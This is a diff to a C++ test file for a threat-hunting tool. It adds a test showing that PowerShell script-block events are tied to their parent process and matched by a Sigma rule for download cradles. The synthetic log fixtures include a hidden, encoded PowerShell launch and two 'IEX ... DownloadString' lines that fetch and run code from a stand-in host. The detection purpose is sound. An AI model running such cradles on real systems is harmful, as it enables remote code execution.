@@ -21,12 +21,13 @@ class Export {
   explicit Export(const std::string& path) : out_(path) {}
 
   void add(const std::string& host, double seconds, const std::string& channel, int event_id, Json data,
-           const std::string& provider = "Microsoft-Windows-Security-Auditing") {
+           const std::string& provider = "Microsoft-Windows-Security-Auditing", int execution_pid = -1) {
     static const int64_t kBase = *iso_to_filetime("2024-03-01T08:00:00Z");
     Json line;
     line["@timestamp"] = filetime_to_iso(kBase + static_cast<int64_t>(seconds * 1e7));
     line["winlog"] = {{"channel", channel}, {"event_id", event_id},       {"computer_name", host},
                       {"record_id", ++record_}, {"provider_name", provider}, {"event_data", std::move(data)}};
+    if (execution_pid >= 0) line["winlog"]["process"] = {{"pid", execution_pid}};
     out_ << line.dump() << '\n';
   }
   void failed_logon(const std::string& host, double t, const std::string& user, const std::string& ip) {
@@ -276,4 +277,52 @@ TEST_CASE("Built-in Sigma: the audit trail removed, then activity within the hou
   CHECK(test::scalar(h.db, "SELECT 10 * sum(e.event_id = 1102) + sum(e.event_id = 4688) FROM finding_events_v e "
                            "JOIN findings f USING (finding_id) WHERE f.host = 'wks01' "
                            "AND f.action = 'audit_trail_removed_then_activity'") == 11);
+}
+
+TEST_CASE("A script block (4104) belongs to the PowerShell process that logged it (Execution ProcessID)", "[sigma][cli]") {
+  test::TempDir dir;
+  {
+    std::ofstream rule(dir.file("rules.yml"));
+    rule << "title: download cradle in a script block\nid: 00000000-0000-4000-8000-000000000021\nlevel: high\n"
+            "logsource:\n  product: windows\n  category: ps_script\ndetection:\n"
+            "  sel:\n    ScriptBlockText|contains: 'DownloadString'\n  condition: sel\n";
+  }
+  Hunted h;
+  const std::string log = h.dir.file("siem.json");
+  {
+    Export e(log);
+    auto process = [&](double t, const std::string& pid, const std::string& ppid, const std::string& image,
+                       const std::string& parent, const std::string& cmd) {
+      e.add("WKS07.corp.local", t, "Security", 4688,
+            {{"SubjectUserName", "alice"}, {"SubjectDomainName", "CORP"}, {"SubjectLogonId", "0x5a3c1"},
+             {"NewProcessId", pid}, {"NewProcessName", image}, {"ProcessId", ppid}, {"CommandLine", cmd},
+             {"TokenElevationType", "%%1938"}, {"ParentProcessName", parent}, {"MandatoryLabel", "S-1-16-8192"}});
+    };
+    process(0, "0x1f00", "0x1000", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\explorer.exe", "cmd.exe");
+    process(5, "0x1a2c", "0x1f00", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "C:\\Windows\\System32\\cmd.exe", "powershell.exe -nop -w hidden -enc SQBFAFgA");
+    const std::string ps = "Microsoft-Windows-PowerShell/Operational";
+    e.add("WKS07.corp.local", 6, ps, 4104,
+          {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockId", "{5f0d}"},
+           {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.66/a')"}},
+          "Microsoft-Windows-PowerShell", 0x1a2c);
+    // The same text logged by a PID that no process held then: a finding with no process.
+    e.add("WKS07.corp.local", 7, ps, 4104,
+          {{"MessageNumber", "1"}, {"MessageTotal", "1"}, {"ScriptBlockId", "{6a1e}"},
+           {"ScriptBlockText", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.66/b')"}},
+          "Microsoft-Windows-PowerShell", 4242);
+  }
+  h.db = h.dir.file("case.db");
+  REQUIRE(test::run_treeline({"ingest", "-q", h.db, log}).exit_code == 0);
+  CHECK(test::scalar(h.db, "SELECT count(*) FROM events_v WHERE event_id = 4104 AND execution_pid IS NOT NULL") == 2);
+  auto hunt = test::run_treeline({"hunt", h.db, "--no-builtin", "--sigma", dir.file("rules.yml"), "--format", "json"});
+  INFO(hunt.err);
+  REQUIRE(hunt.exit_code == 0);
+  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000021'") == 2);
+  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000021' AND image LIKE '%\\powershell.exe' AND pid = 6700") == 1);
+  CHECK(count(h, "rule_id = '00000000-0000-4000-8000-000000000021' AND process_key IS NULL") == 1);
+  // Its chain is the process: the report's ancestry (cmd.exe, then explorer) comes from the tree.
+  CHECK(test::scalar(h.db, "SELECT count(*) FROM findings f JOIN process_edges e ON e.child_key = f.process_key "
+                           "JOIN processes p ON p.process_key = e.parent_key WHERE f.rule_id = "
+                           "'00000000-0000-4000-8000-000000000021' AND p.image LIKE '%\\cmd.exe'") == 1);
 }
